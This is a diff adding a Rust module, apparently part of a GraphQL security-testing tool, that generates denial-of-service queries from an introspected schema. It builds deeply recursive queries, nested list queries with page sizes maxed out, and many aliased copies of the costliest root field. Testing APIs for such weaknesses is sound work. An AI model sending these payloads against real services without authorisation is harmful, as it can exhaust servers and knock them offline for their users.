@@ -0,0 +1,277 @@
+use super::{find_cycles, Field, InputValue, Schema, TypeRef};
+use anyhow::{bail, Result};
+
+// Argument names servers commonly use for page size
+pub(super) const PAGE_ARGS: &[&str] = &["first", "last", "limit", "take", "size", "count", "pageSize", "perPage"];
+
+/// A worst-case query plus what it is expected to cost
+#[derive(Debug, Clone)]
+pub struct GeneratedQuery {
+    pub query: String,
+    pub description: String,
+    /// Rough number of objects the server has to resolve, when it can be estimated
+    pub estimated_nodes: Option<u128>,
+}
+
+/// Builds controlled DoS payloads from a known schema
+pub struct AttackGenerator<'a> {
+    schema: &'a Schema,
+}
+
+impl<'a> AttackGenerator<'a> {
+    pub fn new(schema: &'a Schema) -> Self {
+        Self { schema }
+    }
+
+    /// Follow a recursive type cycle `depth` levels down
+    pub fn deep(&self, depth: usize) -> Result<GeneratedQuery> {
+        let cycles = find_cycles(self.schema, 4, 200);
+        let (cycle, query) = match cycles
+            .iter()
+            .find_map(|c| Some((c, c.deep_query(self.schema, depth)?)))
+        {
+            Some(found) => found,
+            None => bail!("No recursive type cycle is reachable from the query root without arguments"),
+        };
+
+        Ok(GeneratedQuery {
+            query,
+            description: format!("{} levels of {}", depth, cycle.describe()),
+            estimated_nodes: None,
+        })
+    }
+
+    /// Nest list fields `depth` levels, asking for `page_size` items at each level
+    pub fn wide(&self, depth: usize, page_size: usize) -> Result<GeneratedQuery> {
+        let root = match self.schema.get_query_type() {
+            Some(r) => r,
+            None => bail!("Schema has no query type"),
+        };
+
+        // (field, arguments) per level
+        let mut levels: Vec<(&Field, String)> = Vec::new();
+        let mut current = root;
+
+        while levels.len() < depth {
+            let fields = match &current.fields {
+                Some(f) => f,
+                None => break,
+            };
+
+            // Prefer list fields whose type has more list fields below it; single objects
+            // (`me`, `viewer`) only serve as a way in
+            let next = fields
+                .iter()
+                .filter(|f| !f.name.starts_with("__"))
+                .filter(|f| self.object_type(&f.field_type).is_some())
+                .filter_map(|f| Some((f, self.arguments(&f.args, Some(page_size))?)))
+                .max_by_key(|(f, _)| (f.field_type.is_list(), self.list_fan_out(&f.field_type)));
+
+            let (field, args) = match next {
+                Some(n) => n,
+                None => break,
+            };
+
+            levels.push((field, args));
+            current = match self.object_type(&field.field_type) {
+                Some(t) => t,
+                None => break,
+            };
+        }
+
+        // Trailing single objects add nothing
+        while levels.last().is_some_and(|(f, _)| !f.field_type.is_list()) {
+            levels.pop();
+        }
+        let list_levels = levels.iter().filter(|(f, _)| f.field_type.is_list()).count();
+        if list_levels == 0 {
+            bail!("No list fields reachable from the query root");
+        }
+
+        let leaf = self.leaf_selection(levels.last().map(|(f, _)| &f.field_type));
+        let mut selection = leaf;
+        for (field, args) in levels.iter().rev() {
+            selection = format!("{}{} {{ {} }}", field.name, args, selection);
+        }
+
+        let path: Vec<&str> = levels.iter().map(|(f, _)| f.name.as_str()).collect();
+        Ok(GeneratedQuery {
+            query: format!("query {{ {} }}", selection),
+            description: format!(
+                "{} nested lists ({}) with up to {} items each",
+                list_levels,
+                path.join(" > "),
+                page_size
+            ),
+            estimated_nodes: (page_size as u128).checked_pow(list_levels as u32),
+        })
+    }
+
+    /// Repeat the most expensive-looking root field `count` times under different aliases
+    pub fn aliases(&self, count: usize) -> Result<GeneratedQuery> {
+        let root = match self.schema.get_query_type().and_then(|t| t.fields.as_ref()) {
+            Some(f) => f,
+            None => bail!("Schema has no query fields"),
+        };
+
+        let (field, args) = match root
+            .iter()
+            .filter(|f| !f.name.starts_with("__"))
+            .filter_map(|f| Some((f, self.arguments(&f.args, Some(100))?)))
+            .max_by_key(|(f, _)| self.cost_score(f))
+        {
+            Some(found) => found,
+            None => bail!("No root field can be called without complex arguments"),
+        };
+
+        let is_composite = field
+            .field_type
+            .get_base_type_name()
+            .and_then(|n| self.schema.get_type(n))
+            .is_some_and(|t| matches!(t.kind.as_str(), "OBJECT" | "INTERFACE" | "UNION"));
+        let selection = if is_composite {
+            format!(" {{ {} }}", self.leaf_selection(Some(&field.field_type)))
+        } else {
+            String::new()
+        };
+
+        let aliased: Vec<String> = (0..count)
+            .map(|i| format!("a{}: {}{}{}", i, field.name, args, selection))
+            .collect();
+
+        Ok(GeneratedQuery {
+            query: format!("query {{ {} }}", aliased.join(" ")),
+            description: format!("{} aliased copies of {}", count, field.name),
+            estimated_nodes: Some(count as u128),
+        })
+    }
+
+    fn object_type(&self, type_ref: &TypeRef) -> Option<&'a super::FullType> {
+        let name = type_ref.get_base_type_name()?;
+        self.schema
+            .get_type(name)
+            .filter(|t| t.kind == "OBJECT" || t.kind == "INTERFACE")
+    }
+
+    fn list_fan_out(&self, type_ref: &TypeRef) -> usize {
+        self.object_type(type_ref)
+            .and_then(|t| t.fields.as_ref())
+            .map(|fields| fields.iter().filter(|f| f.field_type.is_list()).count())
+            .unwrap_or(0)
+    }
+
+    /// Lists, pagination and nested objects all make a field more expensive to resolve
+    fn cost_score(&self, field: &Field) -> usize {
+        let mut score = 0;
+        if field.field_type.is_list() {
+            score += 4;
+        }
+        if field.args.iter().any(|a| PAGE_ARGS.contains(&a.name.as_str())) {
+            score += 3;
+        }
+        if self.object_type(&field.field_type).is_some() {
+            score += 2 + self.list_fan_out(&field.field_type);
+        }
+        score
+    }
+
+    /// Argument list with page-size args maxed and required args filled with placeholders.
+    /// `None` when a required argument can't be expressed as a literal.
+    fn arguments(&self, args: &[InputValue], page_size: Option<usize>) -> Option<String> {
+        let mut parts = Vec::new();
+
+        for arg in args {
+            let is_page = PAGE_ARGS.contains(&arg.name.as_str());
+            let required = arg.input_type.is_non_null() && arg.default_value.is_none();
+
+            if let (true, Some(size)) = (is_page, page_size) {
+                if arg.input_type.get_base_type_name() == Some("Int") {
+                    parts.push(format!("{}: {}", arg.name, size));
+                    continue;
+                }
+            }
+            if required {
+                parts.push(format!("{}: {}", arg.name, self.literal(&arg.input_type)?));
+            }
+        }
+
+        if parts.is_empty() {
+            Some(String::new())
+        } else {
+            Some(format!("({})", parts.join(", ")))
+        }
+    }
+
+    fn literal(&self, type_ref: &TypeRef) -> Option<String> {
+        match type_ref.kind.as_str() {
+            "NON_NULL" => self.literal(type_ref.of_type.as_ref()?),
+            "LIST" => Some(format!("[{}]", self.literal(type_ref.of_type.as_ref()?)?)),
+            _ => {
+                let name = type_ref.name.as_deref()?;
+                match name {
+                    "Int" => Some("1".to_string()),
+                    "Float" => Some("1.0".to_string()),
+                    "Boolean" => Some("true".to_string()),
+                    "ID" | "String" => Some("\"1\"".to_string()),
+                    _ => {
+                        let full_type = self.schema.get_type(name)?;
+                        match full_type.kind.as_str() {
+                            "ENUM" => full_type.enum_values.as_ref()?.first().map(|v| v.name.clone()),
+                            "SCALAR" => Some("\"1\"".to_string()),
+                            _ => None,
+                        }
+                    }
+                }
+            }
+        }
+    }
+
+    /// A few cheap scalar fields, or `__typename` when there are none
+    fn leaf_selection(&self, type_ref: Option<&TypeRef>) -> String {
+        let fields = type_ref
+            .and_then(|t| self.object_type(t))
+            .and_then(|t| t.fields.as_ref());
+
+        let scalars: Vec<&str> = fields
+            .into_iter()
+            .flatten()
+            .filter(|f| !f.name.starts_with("__") && f.args.is_empty())
+            .filter(|f| {
+                f.field_type
+                    .get_base_type_name()
+                    .and_then(|n| self.schema.get_type(n))
+                    .is_some_and(|t| t.kind == "SCALAR" || t.kind == "ENUM")
+            })
+            .take(3)
+            .map(|f| f.name.as_str())
+            .collect();
+
+        if scalars.is_empty() {
+            "__typename".to_string()
+        } else {
+            scalars.join(" ")
+        }
+    }
+}
+
+/// The cheapest query root field to call: a single scalar or enum with no arguments
+/// (or only optional ones) and not deprecated, argument-free ones first. None when the
+/// root has no such field.
+pub fn cheap_root_field(schema: &Schema) -> Option<&str> {
+    let root = schema.get_query_type()?.fields.as_ref()?;
+    root.iter()
+        .filter(|f| !f.name.starts_with("__") && !f.is_deprecated && !f.field_type.is_list())
+        .filter(|f| {
+            f.args
+                .iter()
+                .all(|a| !a.input_type.is_non_null() || a.default_value.is_some())
+        })
+        .filter(|f| {
+            f.field_type
+                .get_base_type_name()
+                .and_then(|n| schema.get_type(n))
+                .is_some_and(|t| t.kind == "SCALAR" || t.kind == "ENUM")
+        })
+        .min_by_key(|f| f.args.len())
+        .map(|f| f.name.as_str())
+}